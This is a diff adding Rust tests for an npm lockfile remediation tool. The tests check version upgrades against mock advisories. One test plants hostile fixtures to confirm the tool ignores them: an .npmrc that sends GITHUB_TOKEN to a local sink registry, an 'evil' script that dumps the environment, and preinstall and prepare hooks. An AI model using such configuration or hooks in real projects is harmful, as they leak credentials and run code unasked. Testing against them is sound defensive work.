@@ -1,0 +1,128 @@
+//! npm, against its registry.
+
+use super::world::{MemoryTree, World, advisory, find_file, tell, tell_about};
+use crate::model::advisory::Advisory;
+use crate::model::ecosystem::Ecosystem;
+
+const FLAGS: [&str; 5] = ["--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund", "--no-update-notifier"];
+
+fn flaw(package: &str, introduced: &str, fixed: &str) -> Advisory {
+    advisory(Ecosystem::Npm, &format!("GHSA-{package}-{introduced}"), package, introduced, fixed)
+}
+
+fn install<'a>(more: &[&'a str]) -> Vec<&'a str> {
+    ["npm", "install"].into_iter().chain(FLAGS).chain(more.iter().copied()).collect()
+}
+
+/// A project whose lockfile was written when `locked` was current, with the manifest as given.
+fn locked(world: &World, manifest: &str, locked: &str) -> MemoryTree {
+    let old = world.generate(&MemoryTree::new(&[("package.json", locked)]), "package-lock.json", &[&install(&[])]);
+    world.generate(&old.with("package.json", manifest.as_bytes()), "package-lock.json", &[&install(&[])])
+}
+
+#[test]
+fn a_package_moves_to_the_lowest_release_without_a_known_flaw() {
+    let Some(world) = World::new("npm", true) else { return };
+    let tree = locked(
+        &world,
+        "{\n\t\"name\": \"shop\",\n\t\"devDependencies\": {\n\t\t\"lodash\": \"^4.17.0\"\n\t}\n}\n",
+        "{\n\t\"name\": \"shop\",\n\t\"devDependencies\": {\n\t\t\"lodash\": \"4.17.15\"\n\t}\n}\n",
+    );
+    let outcome = world.remedy(&tree, "package-lock.json", vec![flaw("lodash", "0", "4.17.21")]);
+    insta::assert_snapshot!(tell(&outcome), @"");
+}
+
+#[test]
+fn each_copy_of_a_package_gets_its_own_target() {
+    let Some(world) = World::new("npm", true) else { return };
+    let tree = locked(
+        &world,
+        r#"{"name": "shop", "dependencies": {"debug": "^3.0.0", "send": "0.16.1"}}"#,
+        r#"{"name": "shop", "dependencies": {"debug": "3.0.1", "send": "0.16.1"}}"#,
+    );
+    let tree_text =
+        String::from_utf8_lossy(&tree.files[&crate::model::repository::RepoPath::new("package-lock.json").unwrap()])
+            .into_owned();
+    assert!(tree_text.contains("node_modules/send/node_modules/debug"), "the test wants a nested copy: {tree_text}");
+    let advisories =
+        vec![flaw("debug", "3.0.0", "3.1.0"), flaw("debug", "2.0.0", "2.6.9-0"), flaw("mime", "0", "1.4.1")];
+    let outcome = world.remedy(&tree, "package-lock.json", advisories);
+    insta::assert_snapshot!(tell(&outcome), @"");
+}
+
+#[test]
+fn a_parent_that_stands_in_the_way_moves_as_little_as_possible() {
+    let Some(world) = World::new("npm", true) else { return };
+    let tree = locked(
+        &world,
+        r#"{"name": "shop", "dependencies": {"express": "^4.17.0"}}"#,
+        r#"{"name": "shop", "dependencies": {"express": "4.17.1"}}"#,
+    );
+    let outcome = world.remedy(&tree, "package-lock.json", vec![flaw("qs", "0", "6.7.3")]);
+    insta::assert_snapshot!(tell_about(&outcome, &["qs", "body-parser", "express", "blocked"]), @"");
+}
+
+#[test]
+fn a_direct_requirement_is_raised_when_nothing_else_helps() {
+    let Some(world) = World::new("npm", true) else { return };
+    let manifest = r#"{"name": "shop", "dependencies": {"minimist": "0.2.0"}}"#;
+    let tree = locked(&world, manifest, manifest);
+    let outcome = world.remedy(&tree, "package-lock.json", vec![flaw("minimist", "0", "1.2.6")]);
+    insta::assert_snapshot!(tell(&outcome), @"");
+}
+
+#[test]
+fn old_formats_stay_what_they_are() {
+    let Some(world) = World::new("npm", true) else { return };
+    for version in ["1", "2"] {
+        let manifest = r#"{"name": "shop", "dependencies": {"lodash": "^4.17.0"}}"#;
+        let flag = format!("--lockfile-version={version}");
+        let old = MemoryTree::new(&[("package.json", r#"{"name": "shop", "dependencies": {"lodash": "4.17.15"}}"#)]);
+        let tree = world.generate(&old, "package-lock.json", &[&install(&[&flag])]);
+        let tree = tree.with("package.json", manifest.as_bytes());
+        let tree = world.generate(&tree, "package-lock.json", &[&install(&[&flag])]);
+        let outcome = world.remedy(&tree, "package-lock.json", vec![flaw("lodash", "0", "4.17.21")]);
+        let change = &outcome.remedy.as_ref().unwrap_or_else(|| panic!("{}", tell(&outcome))).changes[0];
+        assert!(String::from_utf8_lossy(&change.after).contains(&format!("\"lockfileVersion\": {version}")));
+    }
+}
+
+#[test]
+fn configuration_and_scripts_of_the_project_have_no_effect() {
+    let Some(world) = World::new("npm", true) else { return };
+    let tree = locked(
+        &world,
+        r#"{"name": "shop", "dependencies": {"lodash": "^4.17.0"}}"#,
+        r#"{"name": "shop", "dependencies": {"lodash": "4.17.15"}}"#,
+    );
+    let canary = world.folder.path().join("canary");
+    let sink = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    sink.set_nonblocking(true).unwrap();
+    let port = sink.local_addr().unwrap().port();
+    let configuration = format!(
+        "git=./evil\nregistry=http://127.0.0.1:{port}/${{GITHUB_TOKEN}}/\n//127.0.0.1:{port}/:_authToken=${{GITHUB_TOKEN}}\n"
+    );
+    let manifest = format!(
+        r#"{{"name": "shop", "scripts": {{"preinstall": "touch {0}", "prepare": "touch {0}"}}, "dependencies": {{"lodash": "^4.17.0"}}}}"#,
+        canary.display()
+    );
+    let tree = tree
+        .with(".npmrc", configuration.as_bytes())
+        .with("evil", format!("#!/bin/sh\nenv > {}\n", canary.display()).as_bytes())
+        .with("package.json", manifest.as_bytes());
+    let tree = world
+        .generate(
+            &MemoryTree::new(&[("package.json", &manifest)]).with(
+                "package-lock.json",
+                &tree.files[&crate::model::repository::RepoPath::new("package-lock.json").unwrap()],
+            ),
+            "package-lock.json",
+            &[&install(&[])],
+        )
+        .with(".npmrc", configuration.as_bytes());
+    let outcome = world.remedy(&tree, "package-lock.json", vec![flaw("lodash", "0", "4.17.21")]);
+    assert!(outcome.remedy.is_some(), "{}", tell(&outcome));
+    assert!(!canary.exists(), "a script of the project ran");
+    assert!(sink.accept().is_err(), "the project's registry was asked");
+    assert!(!find_file(&world.folder.path().join("scratch"), ".npmrc"));
+}
